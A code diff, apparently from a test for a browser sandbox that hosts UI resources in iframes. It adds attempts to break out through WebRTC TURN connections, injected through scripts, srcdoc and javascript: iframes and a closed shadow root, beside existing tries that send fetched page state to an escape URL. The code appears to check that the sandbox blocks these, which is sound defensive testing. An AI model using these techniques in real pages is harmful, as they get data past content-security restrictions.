@@ -46,6 +46,13 @@ const tries = {
   api() { fetch(page + "/api/state").then((one) => one.text()).then((one) => fetch("${ESCAPE("api")}?" + one)).catch(() => {}); }, worker() { new Worker(URL.createObjectURL(new Blob(["fetch('${ESCAPE("worker")}')"]))); }, store() { localStorage.setItem("a", "b"); }, frame() { const one = document.createElement("iframe"); one.src = page + "/"; document.body.append(one); },
   alert() { alert("broken out"); }, print() { print(); }, pointer() { document.body.requestPointerLock()?.catch(() => {}); }, full() { document.body.requestFullscreen().catch(() => {}); },
 };
+// Calls between browsers, which no policy governs: of its own, and of frames that have a world of their own.
+const peer = 'if (globalThis.RTCPeerConnection) { const one = new RTCPeerConnection({ iceServers: [{ urls: "${ESCAPE("").replace("http://", "turn:").replace(/\/$/, "")}?transport=tcp", username: "u", credential: "p" }] }); one.createDataChannel("x"); one.createOffer().then((offer) => one.setLocalDescription(offer)); }';
+const framed = (at, members) => { const one = document.createElement("iframe"); Object.assign(one, members); at.append(one); };
+tries.peer = () => { const one = document.createElement("script"); one.textContent = peer; document.body.append(one); };
+tries.peerOfFrame = () => framed(document.body, { srcdoc: "<script>" + peer + "<\\/script>" });
+tries.peerOfScript = () => framed(document.body, { src: "javascript:" + peer });
+tries.peerOfShadow = () => { const host = document.createElement("div"); document.body.append(host); framed(host.attachShadow({ mode: "closed" }), { srcdoc: "<script>" + peer + "<\\/script>" }); };
 for (const [name, attempt] of Object.entries(tries)) try { attempt(); } catch (error) { /* refused */ }
 const cycle = { jsonrpc: "2.0", id: 7, method: "ping" }; cycle.self = cycle;
 for (const one of [null, 1, "x", [], cycle, { jsonrpc: "2.0", id: 8, method: { toString: 1 } }, { jsonrpc: "2.0", id: { toString: 1 }, method: "constructor", params: null }, { jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "x" } }]) parent.postMessage(one, "*");
